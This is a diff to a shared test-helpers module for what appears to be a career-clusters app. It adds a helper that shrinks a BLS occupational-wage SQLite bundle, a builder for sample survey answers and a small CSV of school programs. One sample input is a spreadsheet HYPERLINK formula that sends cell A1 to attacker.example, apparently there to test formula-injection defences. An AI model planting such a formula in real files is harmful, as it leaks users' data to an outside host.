@@ -1,6 +1,6 @@
 """What more than one test module needs and is not a fixture: where the official files are, a copy of a store,
 servers (the app in this process, ``careerclusters serve`` as a process, a stand-in for the publishers' file
-servers), BLS-shaped workbooks, what a browser test checks on a page, and a PDF's text.
+servers), BLS-shaped files made small, sample inputs, what a browser test checks on a page, and a PDF's text.
 
 Fixtures are in ``conftest.py`` (and ``browser/conftest.py``); test modules import from here, never from each
 other.
@@ -9,6 +9,7 @@ other.
 from __future__ import annotations
 
 import contextlib
+import gzip
 import http.server
 import os
 import re
@@ -29,6 +30,8 @@ import pytest
 
 if TYPE_CHECKING:
     from playwright.sync_api import Page
+
+    from careerclusters.survey.scoring import SurveyAnswers
 
 ROOT = Path(__file__).resolve().parents[1]
 SHARED = Path(os.environ.get("CAREERCLUSTERS_SHARED", ROOT.parent / "shared"))
@@ -208,6 +211,49 @@ def oews_workbook(path: Path, sheet: str, rows: list[list]) -> Path:
     return path
 
 
+def small_oews_bundle(data_dir: Path, folder: Path) -> Path:
+    """A bundle of the real one's layout and values, cut down to Registered Nurses nationally in every industry
+    and Ohio's cross-industry rows, so that importing it takes a second."""
+    full = folder / "full.sqlite"
+    with gzip.open(data_dir / "bls-oews-bundle/oews-2025.sqlite.gz") as source, full.open("wb") as target:
+        shutil.copyfileobj(source, target)
+    small = folder / "oews-small.sqlite"
+    conn = sqlite3.connect(small)
+    conn.execute("ATTACH ? AS f", (str(full),))
+    for table in ("area", "occupation", "industry", "datatype", "footnote", "meta"):
+        conn.execute(f"CREATE TABLE {table} AS SELECT * FROM f.{table}")  # noqa: S608 - fixed names
+    conn.execute("CREATE TABLE cell AS SELECT * FROM f.cell WHERE key LIKE 'OEUN0000000%291141' "
+                 "OR key LIKE 'OEUN0000000000000%' OR key LIKE 'OEUS3900000000000%'")
+    conn.commit()
+    conn.close()
+    full.unlink()
+    return small
+
+
+# -- sample inputs ------------------------------------------------------------------------------------------------
+
+#: A spreadsheet formula typed where a title or a code should be.
+HYPERLINK = '=HYPERLINK("http://attacker.example/?x="&A1,"Click for bonus")'
+
+#: A school's programs, as the alignment report reads them.
+ALIGNMENT_PROGRAMS = ("program,cip,enrolment,completers\n"
+                      "Nursing (RN),51.3801,120,40\n"
+                      "Cosmetology,12.0401,60,30\n"
+                      "Welding,48.0508,,25\n")
+
+
+def realistic_construction(lang: str = "en") -> SurveyAnswers:
+    """Survey answers that like every Realistic activity, dislike every other one, and tick every Construction
+    item."""
+    from careerclusters.survey import Part, load_instrument
+    from careerclusters.survey.scoring import SurveyAnswers
+
+    inst = load_instrument(lang)
+    answers = {i.id: 2 if i.key == "R" else 0 for i in inst.part(Part.INTEREST)}
+    answers |= {i.id: 2 for i in inst.part(Part.CLUSTER) if i.cluster_id == "construction"}
+    return SurveyAnswers(answers=answers, lang=lang)
+
+
 # -- in the browser -------------------------------------------------------------------------------------------------
 
 #: Collects the page's Content-Security-Policy violations in ``window.__cspViolations`` (an init script).
@@ -266,4 +312,3 @@ def pdf_text(pdf: Path | bytes) -> tuple[int, str]:
 def words(text: str) -> str:
     """``text`` with every run of white space made one space, to assert on phrases wherever lines break."""
     return re.sub(r"\s+", " ", text)
-
